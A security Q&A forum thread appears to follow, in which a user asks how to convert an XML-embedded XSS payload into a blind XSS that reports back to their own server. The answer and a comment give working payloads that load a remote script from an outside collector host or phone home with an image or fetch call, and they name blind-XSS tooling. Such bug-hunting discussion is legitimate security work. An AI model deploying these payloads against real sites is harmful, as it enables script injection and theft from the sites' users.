I think i may have found a blind XSS. I can only upload xml files that are opened inside the backend. My questions is: How can i turn this payload into a blind xss payload to receive a ping to my website?

<?xml version="1.0"?> <foo> <html xmlns:html='http://www.w3.org/1999/xhtml'> <html:script>prompt(document.domain);</html:script> </html> </foo>

What should i changed from this string?


1 Answer 1


A good resource for payloads in general is "payload all the things": https://github.com/swisskyrepo/PayloadsAllTheThings/tree/master/XSS%20Injection#blind-xssI don't see why most of their blind XSS payloads wouldn't work for your target:

Are XML attributes parsed as HTML attributes?

<html:script src=//yoursubdomain.xss.ht>prompt(document.domain);</html:script>

If you're trying to stay inside the tags:

<html:script>var a=document.createElement(\'script\');a.src=\'https://yoursubdomain.xss.ht\';document.body.appendChild(a)</html:script>

It has some other payloads you can try, as well as some tools that can be used to find blindXSS:

  • XSSHunter
  • bXSS
  • ezXSS
  • 1
    new Image().src='someurl' is a simpler way to phonehome. just fetch(url) works these days too. you can rewrite your example code shorter using object ref recycling:document.body.appendChild(document.createElement(\'script\')).src='url'... /bored
    – dandavis
    Commented Jun 6, 2019 at 20:07

You must log in to answer this question.

Not the answer you're lookingfor? Browse other questions tagged .